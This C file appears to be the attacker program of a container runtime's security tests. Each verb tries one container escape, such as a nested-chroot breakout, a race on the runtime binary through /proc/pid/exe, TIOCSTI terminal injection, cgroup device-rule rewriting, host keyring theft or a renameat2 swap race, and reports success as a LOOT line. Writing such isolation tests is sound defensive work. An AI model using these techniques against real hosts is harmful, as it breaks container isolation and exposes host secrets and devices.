/*
 * The hostile program of the attacks: static, so that it runs in any root. Each verb tries one thing, and prints a
 * line that begins with LOOT for whatever it got that a container must not have.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <pthread.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../../../../.."

static void loot(const char *what, const char *detail)
{
	printf("LOOT %s %s\n", what, detail);
	fflush(stdout);
}

/* The start of a file, whatever way the name leads to it. */
static bool read_at(int directory, const char *path, char *text, size_t size)
{
	int fd = openat(directory, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);

	if (fd < 0)
		return false;
	ssize_t got = read(fd, text, size - 1);
	close(fd);
	if (got <= 0)
		return false;
	text[got] = '\0';
	text[strcspn(text, "\n")] = '\0';
	return true;
}

static int read_files(char **paths)
{
	char text[64];

	for (; *paths; paths++)
		if (read_at(AT_FDCWD, *paths, text, sizeof(text)))
			loot(*paths, text);
	return 0;
}

/* Opens for writing and writes nothing. */
static int write_files(char **paths)
{
	for (; *paths; paths++) {
		int fd = open(*paths, O_WRONLY | O_NONBLOCK | O_CLOEXEC);

		if (fd < 0)
			continue;
		loot("writable:", *paths);
		close(fd);
	}
	return 0;
}

/* Makes a file in each directory. */
static int plant_files(char **directories)
{
	char path[4096];

	for (; *directories; directories++) {
		snprintf(path, sizeof(path), "%s/planted", *directories);
		close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	}
	return 0;
}

/* Descriptors that nobody gave to this process, and the way from them to the secret. */
static int use_descriptors(char **argv)
{
	char climb[4096], link[64], target[4096], text[64];

	snprintf(climb, sizeof(climb), UP "%s", argv[0]);
	for (int fd = 3; fd < 1024; fd++) {
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		ssize_t length = readlink(link, target, sizeof(target) - 1);

		if (length < 0)
			continue;
		target[length] = '\0';
		loot("descriptor of", target);
		if (read_at(fd, climb, text, sizeof(text)))
			loot("through it:", text);
	}
	return 0;
}

/* The classic ways out of a root that is not one: what is mounted on it, and a second chroot(2). */
static int leave_root(char **argv)
{
	char path[4096], text[64];

	snprintf(path, sizeof(path), "/..%s", argv[0]);
	if (read_at(AT_FDCWD, path, text, sizeof(text)))
		loot("above the root:", text);
	snprintf(path, sizeof(path), UP "%s", argv[0]);
	if (read_at(AT_FDCWD, path, text, sizeof(text)))
		loot("above the working directory:", text);
	mkdir("/tmp/inner", 0755);
	if (chroot("/tmp/inner") == 0 && read_at(AT_FDCWD, path, text, sizeof(text)))
		loot("out of a chroot:", text);
	return 0;
}

/* One process that has just come: what can be had of it before it executes the container's program. */
static void grab_one(int pid, const struct stat *runtime, const char *secret, bool *done)
{
	char path[4200], text[64];
	struct stat found;

	snprintf(path, sizeof(path), "/proc/%d/root%s", pid, secret);
	if (!done[0] && read_at(AT_FDCWD, path, text, sizeof(text))) {
		loot("the host's root of a process that joins:", text);
		done[0] = true;
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (!done[1] && fstat(fd, &found) == 0 && found.st_dev == runtime->st_dev && found.st_ino == runtime->st_ino) {
		loot("the runtime's program", "opened");
		done[1] = true;
		/* While it runs it cannot be written to (ETXTBSY); that it may be changed shows in its mode. */
		if (fchmod(fd, 0777) == 0)
			loot("the runtime's program", "can be changed");
	}
	close(fd);
}

/* Pid 1: lies in wait for the processes of `exec`, which have the next numbers. */
static _Noreturn void grab(char **argv)
{
	struct stat runtime = { .st_dev = (dev_t)strtoull(argv[0], NULL, 10), .st_ino = (ino_t)strtoull(argv[1], NULL, 10) };
	bool done[2] = { false, false };
	int last = 1;

	puts("waiting");
	fflush(stdout);
	for (;;) {
		char path[64];

		while (waitpid(-1, NULL, WNOHANG) > 0)
			continue;
		for (int pid = last + 1; pid <= last + 4; pid++) {
			snprintf(path, sizeof(path), "/proc/%d", pid);
			if (access(path, F_OK) != 0)
				continue;
			last = pid;
			while (access(path, F_OK) == 0 && !(done[0] && done[1]))
				grab_one(pid, &runtime, argv[2], done);
		}
	}
}

/* The program of this very process, which the runtime has brought along. */
static int change_program(char **argv)
{
	for (; *argv; argv++) {
		int fd = open(*argv, O_RDONLY | O_CLOEXEC);

		if (fd >= 0 && fchmod(fd, 0777) == 0)
			loot("can be changed:", *argv);
	}
	return 0;
}

static int print_capabilities(void)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];
	char text[32];

	if (syscall(SYS_capget, &header, data) < 0)
		return 1;
	snprintf(text, sizeof(text), "%08x%08x", data[1].permitted, data[0].permitted);
	if (data[0].permitted || data[1].permitted)
		loot("capabilities of an ordinary user:", text);
	return 0;
}

/* A program with inheritable file capabilities, executed by an ordinary user. */
static int inherit(const char *self)
{
	struct vfs_cap_data file = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE };
	char command[4200];

	file.data[0].inheritable = file.data[1].inheritable = UINT32_MAX;
	snprintf(command, sizeof(command), "cp %s /tmp/gifted && chmod 755 /tmp/gifted", self);
	if (system(command) != 0 || setxattr("/tmp/gifted", "security.capability", &file, XATTR_CAPS_SZ_2, 0) < 0)
		return 1;
	if (setresgid(1000, 1000, 1000) < 0 || setresuid(1000, 1000, 1000) < 0)
		return 1;
	execl("/tmp/gifted", "gifted", "capabilities", NULL);
	return 1;
}

static int inject(void)
{
	int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);

	if (terminal < 0)
		return 0;
	loot("the user's terminal", ioctl(terminal, TIOCSTI, "x") == 0 ? "typed into" : "opened");
	return 0;
}

static int make_namespaces(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
		loot("a user namespace", "with every capability in it");
	return 0;
}

/* On the host: a session keyring with a secret, and a program in that session. */
static int keep_key(char **argv)
{
	syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
	if (syscall(SYS_add_key, "user", "tsrun-attack", "treasure", 8, KEY_SPEC_SESSION_KEYRING) < 0)
		return 1;
	execvp(argv[0], argv);
	return 1;
}

static int steal_key(void)
{
	char text[16] = "";
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "tsrun-attack", 0);

	if (key >= 0 && syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text) - 1) > 0)
		loot("a key of the host's session:", text);
	return 0;
}

/* A device of the host: by a node of its own, after an attempt to allow itself all devices. */
static int open_device(char **argv)
{
	int rules = open("/sys/fs/cgroup/devices/devices.allow", O_WRONLY | O_CLOEXEC);

	if (rules >= 0 && write(rules, "a", 1) == 1)
		loot("device rules", "rewritten");
	dev_t device = makedev((unsigned)atoi(argv[1]), (unsigned)atoi(argv[2]));
	if (mknod("/tmp/device", 0600 | (argv[0][0] == 'b' ? S_IFBLK : S_IFCHR), device) < 0)
		return 0;
	if (open("/tmp/device", O_RDONLY | O_NONBLOCK | O_CLOEXEC) >= 0)
		loot("a device of the host:", argv[3]);
	return 0;
}

/* Exchanges the names of pairs for ever. */
static _Noreturn void exchange(char **argv)
{
	puts("waiting");
	fflush(stdout);
	for (;;)
		for (char **pair = argv; pair[0] && pair[1]; pair += 2)
			syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE);
}

static void *name_tracer(void *unused)
{
	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	return unused;
}

/* A thread that has named its parent its tracer is its parent's to wait for, and the process cannot end before. */
static int leave_thread(void)
{
	pthread_t thread;

	if (pthread_create(&thread, NULL, name_tracer, NULL) != 0)
		return 1;
	pthread_join(thread, NULL);
	puts("waiting");
	fflush(stdout);
	pause();
	return 0;
}

static int connect_to(char **paths)
{
	for (; *paths; paths++) {
		struct sockaddr_un address = { .sun_family = AF_UNIX };
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (strlen(*paths) >= sizeof(address.sun_path))
			return 1;
		strcpy(address.sun_path, *paths);
		if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0)
			loot("connected to", *paths);
		close(fd);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

#define VERB(name, call) if (strcmp(verb, name) == 0) return call
	VERB("loot", (loot("this program", argv[0]), 0));
	VERB("read", read_files(argv + 2));
	VERB("write", write_files(argv + 2));
	VERB("plant", plant_files(argv + 2));
	VERB("descriptors", use_descriptors(argv + 2));
	VERB("leave-root", leave_root(argv + 2));
	VERB("change-program", change_program(argv + 2));
	VERB("capabilities", print_capabilities());
	VERB("inherit", inherit(argv[0]));
	VERB("inject", inject());
	VERB("make-namespaces", make_namespaces());
	VERB("keep-key", keep_key(argv + 2));
	VERB("steal-key", steal_key());
	VERB("open-device", open_device(argv + 2));
	VERB("connect", connect_to(argv + 2));
	VERB("leave-thread", leave_thread());
	if (strcmp(verb, "grab") == 0)
		grab(argv + 2);
	if (strcmp(verb, "exchange") == 0)
		exchange(argv + 2);
	fprintf(stderr, "attacker: unknown verb %s\n", verb);
	return 2;
}
